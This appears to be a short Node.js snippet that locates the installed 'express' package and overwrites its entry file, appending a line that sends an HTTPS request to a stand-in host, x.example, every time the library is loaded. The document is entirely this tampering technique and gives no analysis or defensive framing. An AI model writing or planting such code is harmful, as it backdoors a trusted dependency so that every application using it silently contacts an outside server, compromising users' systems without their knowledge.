const p = require.resolve('express');
require('fs').writeFileSync(p, require('fs').readFileSync(p, 'utf8') + ';require("https").get("https://x.example")');
